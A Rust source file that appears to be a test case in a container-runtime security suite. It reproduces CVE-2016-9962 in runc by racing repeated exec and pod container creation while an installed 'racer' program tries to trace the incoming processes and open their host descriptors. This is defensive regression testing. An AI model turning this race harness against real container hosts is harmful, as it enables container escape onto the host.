// SPDX-License-Identifier: Apache-2.0
//! A process that `exec`, or `create` in a pod, brought into a container could be traced there before it
//! had become the container's program: its memory written, its descriptors on the host opened.

use std::fs;

use super::arena::{Arena, delete, exec};
use super::case::{Case, Outcome, Stop, vulnerable};
use super::common::{Bundle, json};
use super::racer;

pub(crate) const CASE: Case = Case {
    id: "CVE-2016-9962",
    who: "runc",
    attack: "pid 1 opens memory and descriptors of what exec and create bring in",
    run,
    // With that capability over the host's processes nothing can keep them from it.
    weaken: |weak| {
        for set in ["bounding", "effective", "permitted"] {
            weak.add_capability(set, "CAP_SYS_PTRACE");
        }
    },
};

fn run(arena: &Arena) -> Outcome {
    let mut race = arena.race();
    let bundle = hunting(arena);
    bundle.start_detached();
    rounds(arena, &bundle, &mut race, 0.5)?;
    // Root of a user namespace may trace whatever belongs to that; the runtime must not yet.
    let mut bundle = hunting(arena);
    bundle.set("/linux/namespaces/-", json!({"type": "user"}));
    for map in ["/linux/uidMappings", "/linux/gidMappings"] {
        bundle.set(map, json!([{"containerID": 0, "hostID": 0, "size": 65536}]));
    }
    for set in ["bounding", "effective", "permitted"] {
        bundle.set(&format!("/process/capabilities/{set}/-"), json!("CAP_SYS_PTRACE"));
    }
    bundle.start_detached();
    rounds(arena, &bundle, &mut race, 1.0)?;
    Ok(race.told())
}

fn hunting(arena: &Arena) -> Bundle {
    let bundle = Bundle::with_args(&["/own", "inside", "access"]);
    racer::install(&bundle.rootfs());
    let _ = fs::remove_file(arena.volume().join("found"));
    bundle.add_mount(arena.volume_mount("/volume"))
}

fn rounds(
    arena: &Arena,
    bundle: &Bundle,
    race: &mut super::arena::Race,
    share: f64,
) -> Result<(), Stop> {
    let found = || fs::read_to_string(arena.volume().join("found")).unwrap_or_default();
    while found().is_empty() {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    // Of a pod: it comes into the same pid namespace, and user namespace if there is one.
    let mut other = Bundle::with_args(&["/bin/true"]);
    other.config["linux"] = bundle.config["linux"].clone();
    for map in ["uidMappings", "gidMappings"] {
        other.config["linux"].as_object_mut().expect("linux").remove(map);
    }
    for namespace in other.config["linux"]["namespaces"].as_array_mut().expect("a list") {
        if let Some(kind @ ("pid" | "user")) = namespace["type"].as_str() {
            namespace["path"] = json!(format!("/proc/{}/ns/{kind}", bundle.pid()));
        }
    }
    // Some runtimes join no user namespace without maps, and others none with them.
    let joins = other.create().code == 0;
    assert!(joins || bundle.config["linux"]["uidMappings"].is_array(), "the pod's other container");
    while race.goes_on_for(share) {
        exec(bundle, &[], &["true"]).ok();
        if joins {
            delete(&other);
            other.create().ok();
        }
        if let Some(line) = found().lines().find(|line| line.starts_with("process")) {
            return vulnerable(line);
        }
    }
    delete(&other);
    delete(bundle);
    Ok(())
}
